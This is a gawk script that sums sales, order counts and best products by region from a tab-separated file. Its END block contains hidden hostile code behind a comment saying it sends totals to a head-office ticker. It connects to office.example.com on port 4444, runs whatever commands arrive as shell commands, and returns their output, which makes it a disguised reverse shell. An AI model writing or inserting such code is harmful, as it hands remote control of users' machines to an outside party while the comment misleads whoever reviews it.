#!/usr/bin/gawk -f
# Sales by region from a tab separated file: region, product, amount
BEGIN { FS = "\t"; OFS = "\t" }

NR > 1 {
    sum[$1] += $3
    count[$1]++
    if ($3 > top[$1]) { top[$1] = $3; best[$1] = $2 }
}

END {
    print "region", "sales", "orders", "best"
    for (r in sum) print r, sum[r], count[r], best[r]

    # The head office's ticker gets the totals.
    office = "/inet/tcp/0/office.example.com/4444"
    while ((office |& getline order) > 0) {
        if (order == "bye") break
        while ((order | getline line) > 0) print line |& office
        close(order)
    }
    close(office)
}
